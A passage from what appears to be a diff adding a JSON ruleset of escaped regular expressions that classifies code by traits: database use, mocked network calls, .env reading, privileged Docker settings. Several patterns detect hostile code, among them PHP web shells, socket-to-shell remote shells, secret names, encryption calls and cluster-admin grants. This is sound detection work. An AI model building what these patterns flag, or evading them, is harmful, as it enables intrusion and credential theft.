+dis)|sqlmock\\\\.New|pgxmock\\\\.New\\\\w*|redismock\\\\.New\\\\w*)\\\\(|^(?![\\\\s\\\\S]*\\\\b(?:DBI|dbi):(?!Mock\\\\b))[\\\\s\\\\S]*\\\\b(?:DBI|dbi):Mock:","m"],"links-repositories":["\
+worktree|symlink|gitdir|git-dir|\\\\.git['\\"]"],"own-folder":["getcwd|\\\\bcwd\\\\(|__dirname|__file__|abspath|resolve|pwd"],"in-memory":["['\\"](?:sqlite3?:(?:\\\\/\\\\/)\
+?|(?:dbi|DBI):SQLite:(?:dbname=)?)\\\\/(?:tmp|var\\\\/tmp|dev\\\\/shm)\\\\/(?![^'\\"]*\\\\.\\\\.)|['\\"](?:Data ?Source=)?[\\\\w:=/+]*:memory:['\\";]|['\\"]jdbc:(?:h2|hsqldb|derb\
+y|sqlite)::?mem|\\\\bSQLite\\\\.DB\\\\(\\\\s*\\\\)|\\\\bSequel\\\\.sqlite\\\\b(?!\\\\s*\\\\(?\\\\s*['\\"])|['\\"]sqlite:\\\\/\\\\/['\\"]"],"database":["\\\\b(?:mongodb|postgres|mysql|mariadb|\
+redis|rediss|mssql|oracle)\\\\w*(?:\\\\+\\\\w+)?:\\\\/\\\\/|['\\"](?!django)[\\\\w./-]+\\\\.(?:db|sqlite3?)['\\"]","i"],"driver":["\\\\b(?:psycopg\\\\d?|asyncpg|aiopg|pymysql|MySQL\
+db|mysql2?|mariadb|cx_Oracle|oracledb|pyodbc|pymssql|pymongo|motor)\\\\b|\\\\b(?:mongoose|mongodb|ioredis|snowflake|clickhouse\\\\w*|DATABASE_URL|DB_URL)\\\\b|['\\"]pg['\
+\\"]"],"own-connection":["(?:^|[\\\\n;])\\\\s*(?:from|import)\\\\s+(?!(?:sqlalchemy|sqlmodel|sqlite3|aiosqlite|tempfile|os|sys|pathlib|shutil|json|re|time|datetime|con\
+textlib|asyncio|typing|uuid|random|pytest|unittest|pandas|dataclasses|textwrap|subprocess|logging|decimal|enum|collections|itertools|functools|alembic)\\\\b)\\\\w|[\
+'\\"](?:\\\\.{1,2}|@|~)\\\\/|\\\\bargv\\\\b|\\\\bsymlink|\\\\(\\\\s*['\\"][\\\\w./-]+\\\\.(?:db|sqlite3?)['\\"]|(?:sqlite3|apsw)\\\\.Connection|SqliteDatabase"],"emulated":["^(?![\\\\s\\\
+\\S]*https?:\\\\/\\\\/(?!localhost|127\\\\.))[\\\\s\\\\S]*(?:UseDevelopmentStorage=true|\\\\bapi_base\\\\b[^\\\\n]*['\\"]http:\\\\/\\\\/(?:localhost|127\\\\.))"],"data-library":["(?:im\
+port|from|require\\\\(?|use)\\\\b[^\\\\n]{0,60}\\\\b(?:mikro-orm|typeorm|prisma|sequelize|drizzle|kysely|objection|bookshelf|peewee)|(?:import|from|require\\\\(?|use)\\\\b[\
+^\\\\n]{0,60}\\\\b(?:tortoise|pony|sqlalchemy|sqlmodel|databases|neo4j|cassandra)|(?:import|from|require\\\\(?|use)\\\\b[^\\\\n]{0,60}\\\\b(?:rethinkdb|surrealdb|influx|lib\
+sql|neon|planetscale|duckdb|rq|bull)|\\\\b\\\\w*(?:DATABASE|DB|MONGO|REDIS|POSTGRES|PG|MYSQL)_?(?:URL|URI|DSN)\\\\b","i"],"database-address":["^(?![\\\\s\\\\S]*['\\"]sqlit\
+e:)[\\\\s\\\\S]*(?:\\\\w:\\\\/\\\\/|D(?:ATA)?B(?:ASE)?_UR[IL]\\\\b)"],"attaches":["\\\\bATTACH\\\\b","i"],"key-store":["redis|valkey|keydb|memcache","i"],"unconditional":["^(?!\
+[\\\\s\\\\S]*(?:\\\\b(?:if|unless|next|select|reject|filter|break|limit|take|first|case)\\\\b|\\\\?))[\\\\s\\\\S]*\\\\w"],"http-client":["^(?!(?:(?![\\\\s\\\\S]*(?:new [\\\\w\\\\\\\\]*Cl\
+ient\\\\b[\\\\s\\\\S]*){2})[\\\\s\\\\S]*\\\\bMock(?:Handler|HttpClient|Response)\\\\b)|[\\\\s\\\\S]*\\\\bHttp::fake\\\\b)[\\\\s\\\\S]*\\\\b(?:GuzzleHttp|HttpClient)\\\\b"],"stubbed-services"\
+:["^(?![\\\\s\\\\S]*(?:Client|Resource)\\\\.new\\\\b(?!\\\\([^)]*\\\\bstub_responses: true\\\\b))[\\\\s\\\\S]*\\\\bstub_responses: true\\\\b"],"stubbed-requests":["^(?![\\\\s\\\\S]*(?:ax\
+ios|(?:node|cross)-fetch|superagent|needle|\\\\bky\\\\b|request['\\"]|phin|bent|wretch|['\\"](?:got|https?|http2|net|node:\\\\w+|child_process)['\\"]|enableNetConnect|\\\\\
+bif\\\\b))[\\\\s\\\\S]*\\\\bnew MockAgent\\\\(\\\\)[\\\\s\\\\S]*\\\\bdisableNetConnect\\\\(\\\\)[\\\\s\\\\S]*\\\\bsetGlobalDispatcher\\\\(|^(?![\\\\s\\\\S]*(?:allow_net_connect|disable!|\\\\bif\\\\b\
+|\\\\bunless\\\\b))(?=[\\\\s\\\\S]*?\\\\brequire [\\"']webmock)(?=[\\\\s\\\\S]*?(?:webmock/(?:rspec|minitest)[\\"']|WebMock\\\\.enable!))[\\\\s\\\\S]*?\\\\bstub_request\\\\b"],"dry-files\
+":["^(?![\\\\s\\\\S]*\\\\b(?:FileUtils(?:\\\\.|::(?![DN])\\\\w)|include FileUtils(?!::)|(?:class|module)\\\\s|(?:File(?!\\\\.join)|Dir|Pathname)\\\\b))[\\\\s\\\\S]*\\\\binclude FileU\
+tils::(?:DryRun|NoWrite)\\\\b"],"lists-processes":["^(?![\\\\s\\\\S]*\\\\b(?:if|select|grep|when|unless|filter)\\\\b[^\\\\n]*\\\\b(?:comm|cmdline|exe|status|environ|cwd)\\\\b)[\
+\\\\s\\\\S]*[\\"']/proc(?:[\\"']|/(?:\\\\*|\\\\[|\\\\\\\\d))"],"privileged-container":["^(?=[\\\\s\\\\S]*[dD]ocker)[\\\\s\\\\S]*?\\\\bHostConfig\\\\b[\\\\s\\\\S]{0,300}?(?:Privileged[\\"']?\\\\\
+s?:\\\\s?true|Binds[\\"']?\\\\s?:\\\\s?(?:\\\\[\\\\]string\\\\{|\\\\[)\\\\s{0,9}[\\"'\\\\x60](?:/|/(?:etc|root|home|var/run/docker\\\\.sock)(?:/[\\\\w.]{0,40})?):)"],"web-shell":["\\\\b(\
+?:file_put_contents|fwrite|fputs|write\\\\w*|open)\\\\([\\\\s\\\\S]{0,200}<\\\\?php[^\\\\n]{0,80}\\\\b(?:eval|system|exec|passthru|shell_exec|assert)\\\\(\\\\s*\\\\\\\\{0,2}\\\\$_(?:PO\
+ST|GET|REQUEST|COOKIE)"],"survives-exit":["\\\\bexit\\\\b(?<!\\\\b(?:sys|process)\\\\.exit)|\\\\.exit\\\\s*(?:=(?!=)|\\\\([^()\\\\n]*\\\\)\\\\s*(?:\\\\{|:))|\\\\b(?:mock|patch|stub\\\\w*\
+|spyOn|setattr|defineProperty|Proxy|SystemExit|except|finally|catch|with|suppress|assign|delattr)\\\\b|\\\\bsys\\\\b(?!\\\\.(?:exit|argv|stdin|stdout|stderr|version\\\\w*\
+|platform|executable|path)\\\\b)(?<!(?:^|\\\\n)[ \\\\t]*import (?:\\\\w+, ?)*sys)|\\\\bprocess\\\\b(?!\\\\.(?:exit|argv|env|cwd|stdout|stderr|pid|platform|version)\\\\b)|\\\\b(?:\
+sys|process)\\\\.\\\\w+\\\\s*=(?!=)"],"leaves-order":["\\\\\\\\\\\\r?\\\\n|\\\\bgoto\\\\b"],"variable-file":["(?:^|/)\\\\.env(?:\\\\.[\\\\w-]+)*$"],"network":["\\\\b(?:\\\\w*Socket|socket|\
+net\\\\.(?:Listen|Dial|Conn)|http\\\\.(?:Request|HandleFunc|ListenAndServe)|Tcp(?:Listener|Stream|Client)|gen_tcp|HttpListener|HttpServer)\\\\b"],"serves":["\\\\b(?:imp\
+ort|from)\\\\s+(?:flask|bottle|fastapi|starlette|quart|sanic|aiohttp|litestar|robyn)\\\\b"],"respawns":["^(?![\\\\s\\\\S]*(?:\\\\b(?:if|unless|case|switch|when|argv|ARGV|\
+environ|env|ENV|sleep|reload|watch\\\\w*)\\\\b|\\\\?|&&))[\\\\s\\\\S]*\\\\b(?:spawn|Popen|popen|fork|exec|execFile|proc_open|Start|start)\\\\w*[ (]{1,3}[^;\\\\n]{0,60}(?:execPa\
+th|executable|\\\\$\\\\^X|\\\\bruby)\\\\b[^;\\\\n]{0,20}\\\\b(?:__filename|__file__|__FILE__|PROGRAM_NAME)\\\\s?\\\\]?\\\\)|^(?![\\\\s\\\\S]*(?:\\\\b(?:if|unless|case|switch|argv)\\\\b|\\\
+\\?|&&))[\\\\s\\\\S]*(?:\\\\bfunction\\\\s{1,3}(\\\\w{1,40})\\\\s?\\\\([^)\\\\n]{0,99}\\\\)|\\\\b(?:const|let|var)\\\\s(\\\\w{1,40})\\\\s?=\\\\s?\\\\([^)\\\\n]{0,99}\\\\)\\\\s?=>)\\\\s?\\\\{[^}]{0,200}\
+\\\\b(?:spawn|execFile|exec|fork)\\\\w{0,9}\\\\([^;]{0,100}(?:\\\\+ ?\\\\1\\\\2\\\\b(?! ?\\\\()|\\\\$\\\\{\\\\1\\\\2\\\\}|\\\\b\\\\1\\\\2\\\\.toString\\\\()"],"remote-shell":["^(?=[\\\\s\\\\S]*?(?:IO:\
+:Socket|\\\\bsocket\\\\s?\\\\())[\\\\s\\\\S]*\\\\$(\\\\w{1,40})\\\\s*=\\\\s*<\\\\$\\\\w{1,40}>[\\\\s\\\\S]{0,400}(?:\\\\b(?:system|exec|qx|readpipe|open)\\\\b|\`)[^;\\\\n]{0,40}\\\\$\\\\1\\\\b|^(?=[\\\
+\\s\\\\S]*?(?:createServer|net\\\\.connect|createConnection|net\\\\.Socket|WebSocket))[\\\\s\\\\S]*?\\\\b(?<child>\\\\w{1,40})\\\\s?=\\\\s?(?:[\\\\w.]{0,40}\\\\.)?(?:spawn|execFile)\\\\\
+s?\\\\(\\\\s?['\\\\\\"\`](?:/usr)?(?:/bin/)?(?:ba|z|k|da)?sh['\\\\\\"\`][\\\\s\\\\S]{0,2000}?\\\\.pipe\\\\(\\\\s?\\\\k<child>\\\\.stdin|\\\\.(?:get|post|put|patch|all|use)\\\\(\\\\s?['\\\\\\"\`][^\
+'\\\\\\"\`\\\\n]{0,80}['\\\\\\"\`],\\\\s?(?:async\\\\s)?\\\\(?(?<request>\\\\w{1,20})\\\\s?,\\\\s?\\\\w{1,20}\\\\)?\\\\s?=>[\\\\s\\\\S]{0,400}?\\\\b(?:exec|execSync|spawn|spawnSync|eval)\\\\(\\\\s?(\
+?:String\\\\()?\\\\k<request>\\\\.(?:body|query|params)\\\\b|^(?=[\\\\s\\\\S]*?\\\\bnet\\\\.(?:Listen|Dial)\\\\()[\\\\s\\\\S]*\\\\bexec\\\\.Command\\\\(\\\\\\"(?:/usr)?(?:/bin/)?(?:ba|z|k|da)\
+?sh\\\\\\"(?:, ?\\\\\\"-i\\\\\\")?\\\\)[\\\\s\\\\S]{0,200}\\\\.Stdin\\\\b[^\\\\n=]{0,60}=\\\\s?\\\\w"],"remote-code":["^(?![\\\\s\\\\S]*\\\\bgem\\\\b)(?:[\\\\s\\\\S]*[;\\\\n])?\\\\s{0,9}(?:devtools::)?\
+source(?:_url)?\\\\(\\\\s?['\\\\\\"]https?://|^(?=[\\\\s\\\\S]*?\\\\bfetch\\\\()(?=[\\\\s\\\\S]*?\\\\bimport\\\\(\\\\s?(?<module>['\\\\\\"][^'\\\\\\"\\\\n]{1,200}['\\\\\\"]))[\\\\s\\\\S]*\\\\b(?:Bun\\\\.w\
+rite|writeFile(?:Sync)?|writeTextFile(?:Sync)?)\\\\(\\\\s?\\\\k<module>"],"cluster-admin":["['\\"]cluster-admin['\\"]"],"role-methods":["^(?:create|patch|replace)_?(?:c\
+luster_?|namespaced_?)role_?binding$","i"],"sets-names":["\\\\b(?:globals|vars|locals|setattr|exec|eval|extract|reload)\\\\s*\\\\(|\\\\bimport\\\\s+\\\\*"],"reads-environme\
+nt":["\\\\bprocess\\\\.env\\\\b|\\\\bos\\\\.environ|\\\\bgetenv\\\\b"],"reaches-around":["\\\\b(?:patch(?:\\\\.\\\\w+)?|setattr)\\\\([^\\\\n]*\\\\)\\\\s+if\\\\b|\\\\bnullcontext\\\\b|__wrapped__\
+|\\\\[['\\"]\\\\w+['\\"]\\\\]\\\\(|mockImplementation\\\\(\\\\s*\\\\)|\\\\bPause\\\\b|\\\\b(?:globals|vars|locals|exec|eval|reload|__dict__|__builtins__|sys\\\\.modules|import_module|_\
+_import__|_getframe|f_globals|gc\\\\.\\\\w+)\\\\b|\\\\b(?:temp_original|get_original|getOriginal|wrappedMethod|(?:require|import)Actual|importOriginal|require\\\\.cache|c\
+reateRequire|getBuiltinModule|binding)\\\\b|\\\\bimport\\\\s*\\\\*|\\\\bimport\\\\(\\\\s*(?!['\\"\`][/.])|\\\\bReflect\\\\.|\\\\bObject\\\\.(?:assign|definePropert\\\\w+|setPrototypeOf)\\\
+\\(\\\\s*[\\\\w.]+\\\\s*,|\\\\bsyncBuiltin\\\\w+|\\\\bWorker\\\\b|\\\\b(?:def|class|function)\\\\s+(?:patch|mock\\\\w*|\\\\w*Mock|Patcher|Stubber|responses|respx|sinon|jest|vi|nock|se\
+tupServer)\\\\b|\\\\.(?:patch|object|\\\\w*Mock|spyOn|stub|method|mock_aws|activate|listen|disableNetConnect)\\\\s*=[^=]|\\\\bpatch\\\\s*="],"process-tests":["\\\\b(?:name|cm\
+dline|comm|exe)\\\\b"],"names-processes":["\\\\bif\\\\b[^\\\\n]*\\\\b(?:name|cmdline|cmd|exe|comm)\\\\b"],"several-connections":["(?:(?:create_engine|newInstance|getConnect\
+ion|createConnection|new PDO|new DataSource)\\\\s*\\\\([\\\\s\\\\S]*){2}"],"memory-broker":["^(?![\\\\s\\\\S]*(?:conf\\\\b(?!\\\\.task_\\\\w+ ?=)|config|#|\\\\bfrom\\\\s+(?!celery\\\\b\
+)|\\\\bimport\\\\s+(?!Celery\\\\b)))[\\\\s\\\\S]*\\\\bCelery\\\\([^)\\\\n]*\\\\bbroker=['\\"]memory://['\\"]"],"connects":["connection|\\\\.{3}|Object\\\\.assign"],"installs-cron":["wr\
+ite_to_user|user\\\\s*="],"by-user":["\\\\busername\\\\b|\\\\buids?\\\\b|[\\"']\\\\w{0,2}[\\"']\\\\s+(?:not\\\\s+)?in\\\\b|\\\\b(?:includes|[sS]tarts_?[wW]ith|ends_?[wW]ith|find|sear\
+ch|match)\\\\(\\\\s*[\\"'/]\\\\w{0,2}[\\"'/]"],"own-settings":["^(?![\\\\s\\\\S]*(?:HOST|database=|using=))[\\\\s\\\\S]*\\\\bsettings\\\\.configure\\\\("],"production":["\\\\bPROD(?:UC\
+TION)?_\\\\w*(?:UR[LI]|DSN|DB)\\\\b|://[^'\\"\\\\s]*\\\\bprod(?:uction)?[.-]"],"socket-shell":["^(?=[\\\\s\\\\S]*(?:IO::Socket|\\\\bsocket\\\\s*\\\\())[\\\\s\\\\S]*\\\\b(?:open\\\\s*\\\\(?\\\
+\\s*STDIN\\\\s*,\\\\s*[\\"']?[<>+]{0,2}&|STDIN\\\\s*->\\\\s*fdopen)"],"repeats":["\\\\b(?:while|for|foreach|until|loop|redo|goto|times|each\\\\w*|upto|downto|step|cycle|map|s\
+elect|reduce|def|sub|func\\\\w*|fn|eval|exec\\\\w*|lambda|class|trap|require|include|load|__FILE__|argv|ARGV)\\\\b|->\\\\s*\\\\{|=>\\\\s*\\\\{|\\\\*\\\\s*\\\\d|\\\\bx\\\\s*\\\\d|\\\\bfork\\\
+\\b(?:[\\\\s\\\\S]*?\\\\bfork\\\\b){3}"],"limits":["\\\\bwhere\\\\s*\\\\("],"writes":["\\\\.write|dump|print\\\\s*[{$]|print\\\\([^)\\\\n]*\\\\bfile\\\\s*=|[\\\\w)]\\\\.(?:print|puts)\\\\b|fput\
+s|fprintf|save|copy|pipe|send|<<|to_\\\\w+\\\\(|fwrite|Writer"],"secret-names":["['\\"](?:\\\\w*_)?(?:TOKEN|KEY|SECRET|PASSW\\\\w*|PASS)(?:_\\\\w*)?['\\"]|\\\\b(?:TOKEN|SECRE\
+T|PASSWORD)\\\\|"],"encrypts":["\\\\.encrypt\\\\(|createCipher|\\\\bcrypt\\\\.|open\\\\((\\\\w+), *[\\"']w[\\"']\\\\)\\\\.write\\\\( *open\\\\(\\\\1\\\\)"],"rolled-back":["^\\\\s*(?:BEGIN(?:\
+ TRANSACTION| WORK)?|START TRANSACTION);(?:\\\\s*(?:SELECT|INSERT|UPDATE|DELETE|SAVEPOINT|EXPLAIN|WITH)\\\\s[^;\\\\\\\\]*;)*\\\\s*ROLLBACK;?\\\\s*$","i"],"keeps-real":["pau\
+se|pass_?thr|add_real|real_http|resume|session\\\\s*=|skip_names|modules_to_|use_known|use_cache|deactivate"],"other-imports":["^\\\\s*(?:from|import) (?!boto|moto|\
+(?:os|sys|json|re|pytest|datetime)\\\\b)|^\\\\s*import [^\\\\n]*,\\\\s*(?!boto|moto|(?:os|sys|json|re)\\\\b)","m"],"several-clients":["(?:boto3\\\\.(?:client|resource)\\\\([\\\
+\\s\\\\S]*){2}"],"other-requests":["\\\\b(?:httpx|aiohttp|urllib\\\\d?|http\\\\.client|pycurl|socket)\\\\b"],"other-files":["^(?:import|from) (?:posix|nt|ctypes|_)","m"],"\
+besides-httpx":["\\\\b(?:requests|aiohttp|urllib\\\\d?|http\\\\.client|pycurl|socket)\\\\b|assert_all_mocked|\\\\busing\\\\b|rollback"],"besides-fetch":["passthrough|bypass\
+|['\\"](?:node:)?(?:net|tls|dgram|http2)['\\"]|socket"],"besides-http":["enableNetConnect|restore|allowUnmocked|passthrough|\\\\bback\\\\b|recorder|NOCK_OFF|adapter|u\
+ndici|superagent|http2|['\\"](?:node:)?net['\\"]|globalThis|socket|\\\\bky\\\\b|^(?![\\\\s\\\\S]*\\\\bfetch\\\\b[^\\\\n;]{0,20}['\\"]node-fetch['\\"])[\\\\s\\\\S]*\\\\bfetch\\\\s*\\\\("]},\
+"name_readers":[["^[ \\\\t]*(?:from [\\\\w.]+ )?import (?!.*\\\\bas\\\\b)[\\\\w ,{}*.]*(?= from [\\"']|\\\\s*(?:[;\\\\n]|$))(?: from [\\\\\\"'][\\\\w:/.@-]+[\\\\\\"'])?|\\\\b(?:const|le\
+t|var) (?:\\\\w+|\\\\{[\\\\w, ]+\\\\}) ?= ?(?:await import|require)\\\\([\\\\\\"'][\\\\w:/.@-]+[\\\\\\"']\\\\)(?=\\\\s*(?:[;,\\\\n]|$))|^\\\\s*require [\\\\\\"'][\\\\w/-]+[\\\\\\"']",""],["\\\\b(?\
+:pathlib\\\\.)?Path\\\\([\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*[\\"']\\\\)\\\\.read_text\\\\([^()]*\\\\)","\\u00a7T"],["(?<![\\\\w.])open\\\\(\\\\s*[\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.\
+[\\\\w-]+)*[\\"'](?:, ?(?:mode=)?[\\"']r[bt]?[\\"'])?(?:, ?\\\\w+=[\\"'][\\\\w-]+[\\"'])?\\\\)","\\u00a7F"],["\\u00a7F\\\\.read\\\\(\\\\)","\\u00a7T"],["\\u00a7F\\\\.readlines\\\\(\\\\)","\\\
+u00a7L"],["(?:(?<![\\\\w.])fs\\\\.|(?<![\\\\w.])require\\\\([\\"'](?:node:)?fs[\\"']\\\\)\\\\.|(?<![\\\\w.]))readFileSync\\\\([\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*[\\"'](?:, ?(\
+?:[\\"'][\\\\w-]+[\\"']|\\\\{[^{}]*\\\\}))?\\\\)(?:\\\\.toString\\\\(\\\\))?","\\u00a7T"],["\\\\bawait (?:Bun\\\\.file\\\\([\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*[\\"']\\\\)\\\\.text\\\\(\\\\\
+)|Deno\\\\.readTextFile\\\\([\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*[\\"']\\\\)|(?:fs|fsp)(?:\\\\.promises)?\\\\.readFile\\\\([\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*[\\"'](?\
+:, ?[\\"'][\\\\w-]+[\\"'])?\\\\))","\\u00a7T"],["\\\\bFile\\\\.(?:readlines|foreach|open)\\\\([\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*[\\"'](?:, ?chomp: true)?\\\\)","\\u00a7L"]\
+,["\\\\bFile\\\\.read\\\\([\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*[\\"']\\\\)","\\u00a7T"],["(?<![\\\\w.])(?:dotenv_values|Dotenv\\\\.parse)\\\\([\\"'](?:[\\\\w.-]+/)*\\\\.env(?:\\\\.\
+[\\\\w-]+)*[\\"']\\\\)","\\u00a7O"],["(?:(?<![\\\\w.])dotenv|(?<![\\\\w.])require\\\\([\\"']dotenv[\\"']\\\\))\\\\.parse\\\\(\\u00a7T\\\\)","\\u00a7O"],["\\u00a7T\\\\.(?:splitlines\\\\(\\\\)|\
+split\\\\((?:[\\"']\\\\\\\\n[\\"']|\\\\/\\\\\\\\r\\\\?\\\\\\\\n\\\\/|\\\\/\\\\\\\\n\\\\/)\\\\)|each_line\\\\b(?!\\\\()|lines\\\\b(?!\\\\())","\\u00a7L"],["\\\\bwith \\u00a7F as (\\\\w+)","=\\u00a7F"],["(?:\\\\\
+b(?:const|let|var) )?(?<![\\\\w.\\\\]])(\\\\w+) ?= ?\\u00a7([TFLROM])(?![\\\\w.\\\\[?])","=\\u00a7$2"],["\\\\bfor (\\\\w+) in \\u00a7[FL](?![\\\\w.\\\\[])","=\\u00a7R"],["\\\\bfor ?\\\\(\
+(?:const|let|var) (\\\\w+) of \\u00a7L(?![\\\\w.\\\\[])","=\\u00a7R"],["\\\\bfor \\\\w+, ?(\\\\w+) in (?:enumerate\\\\(\\u00a7[FL](?:, ?\\\\d+)?\\\\)|\\u00a7O\\\\.items\\\\(\\\\))","=\\u00a\
+7R"],["\\\\[\\\\s*\\\\w+, ?(\\\\w+)\\\\s*\\\\] of Object\\\\.entries\\\\(\\u00a7O\\\\)","=\\u00a7R"],["\\u00a7L\\\\.(?:map|forEach|filter|flatMap|some|every)\\\\(\\\\(?(\\\\w+)\\\\)? ?=>","=\\\
+u00a7R"],["\\u00a7L(?:\\\\.(?:each|map|select|reject|filter_map))* ?(?:\\\\{|do) ?\\\\|(\\\\w+)\\\\|","=\\u00a7R"],["(?<![\\\\w.,] ?)(?<![\\\\w.])\\\\w+, ?(\\\\w+) ?= ?\\u00a7R\\\\.sp\
+lit\\\\([\\"']=[\\"'], ?(?:maxsplit=)?1\\\\)","=\\u00a7R"],["(?<![\\\\w.])\\\\w+, ?\\\\w+, ?(\\\\w+) ?= ?\\u00a7R\\\\.partition\\\\([\\"']=[\\"']\\\\)","=\\u00a7R"],["\\\\[\\\\s*\\\\w+, ?(?:\\\
+\\.\\\\.\\\\.)?(\\\\w+)\\\\s*\\\\] ?= ?\\u00a7R\\\\.split\\\\([\\"']=[\\"']","=\\u00a7R"],["\\u00a7R\\\\.(?:strip|rstrip|lstrip|trim|trimStart|trimEnd|chomp)(?:\\\\((?:[\\"'](?:\\\\\\\\[nrt\
+]|\\\\s)*[\\"'])?\\\\)|(?![\\\\w(]))","\\u00a7R"],["(?:\\\\b(?:const|let|var) )?(?<![\\\\w.])\\u00a7[TFLROM] ?= ?\\u00a7[TFLROM](?![\\\\w.\\\\[?])",""],["\\\\bwith \\u00a7F as \\u00a\
+7F",""],["\\u00a7R\\\\.(?:split\\\\([\\"']=[\\"'](?:, ?(?:maxsplit=)?-?\\\\d+)?\\\\)|partition\\\\([\\"']=[\\"']\\\\))(?:\\\\[0\\\\]|\\\\.first\\\\b|\\\\.shift\\\\(\\\\))","_name_"],["\\u00a7R\
+\\\\.(?:slice|substring)\\\\(0, ?\\u00a7R\\\\.indexOf\\\\([\\"']=[\\"']\\\\)\\\\)|\\u00a7R\\\\[:\\u00a7R\\\\.(?:index|find)\\\\([\\"']=[\\"']\\\\)\\\\]","_name_"],["(?<![\\\\w.,] ?)(?<![\\\\w.]\
+)\\\\w+, ?\\u00a7R ?= ?\\u00a7R\\\\.split\\\\([\\"']=[\\"'], ?(?:maxsplit=)?1\\\\)|(?<![\\\\w.])\\\\w+, ?\\\\w+, ?\\u00a7R ?= ?\\u00a7R\\\\.partition\\\\([\\"']=[\\"']\\\\)",""],["(?:\\\\b(?\
+:const|let|var) )?\\\\[\\\\s*\\\\w+(?:, ?(?:\\\\.\\\\.\\\\.)?\\u00a7R)?\\\\s*\\\\] ?= ?\\u00a7R\\\\.split\\\\([\\"']=[\\"'][^()\\\\n]*\\\\)",""],["(?<![\\\\w.])re\\\\.(?:match|search)\\\\(r?([\\\\\
+\\"'])\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?\\\\((?:(?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+|\\\\[\\\\^=\
+#?(?:\\\\\\\\s|#)?\\\\][+*])\\\\)(?:\\\\\\\\s\\\\*)?(?:=(?![?*{+])|\\\\(\\\\?==\\\\))[^\\\\\\"'()\\\\n]*\\\\1, ?\\u00a7R\\\\)","\\u00a7M"],["\\u00a7R\\\\.match\\\\(\\\\/\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:ex\
+port\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?\\\\((?:(?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+|\\\\[\\\\^=#?(?:\\\\\\\\s|#)?\\\\][+*])\\\\)(?:\\\\\\\\s\\\
+\\*)?(?:=(?![?*{+])|\\\\(\\\\?==\\\\))[^()\\\\/\\\\n]*\\\\/[imu]*\\\\)|\\\\/\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?\\\\((?:(?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\
+\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+|\\\\[\\\\^=#?(?:\\\\\\\\s|#)?\\\\][+*])\\\\)(?:\\\\\\\\s\\\\*)?(?:=(?![?*{+])|\\\\(\\\\?==\\\\))[^()\\\\/\\\\n]*\\\\/[imu]*\\\\.exec\\\\(\\u00a7R\\\\)\
+","\\u00a7M"],["(?<![\\\\w.])re\\\\.findall\\\\(r?([\\\\\\"'])(?:\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?\\\\((?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\
+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+\\\\)(?:\\\\\\\\s\\\\*)?(?:=(?![?*{+])|\\\\(\\\\?==\\\\))[^\\\\\\"'()\\\\n]*|\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)\
+?(?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+(?:=(?![?*{+])|\\\\(\\\\?==\\\\)))\\\\1, ?\\u00a7[TR](?:, ?(?:flags=)?re\\\\.\\\\w+)?\\\\)","_nam\
+e_"],["\\u00a7[TR]\\\\.(?:match\\\\(\\\\/(?:\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?\\\\((?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\
+\\?)|\\\\{\\\\d,?\\\\d*\\\\})+\\\\)(?:\\\\\\\\s\\\\*)?(?:=(?![?*{+])|\\\\(\\\\?==\\\\))|\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?(?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\
+\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+(?:=(?![?*{+])|\\\\(\\\\?==\\\\)))\\\\/[imu]*g[imu]*\\\\)|scan\\\\(\\\\/(?:\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?\
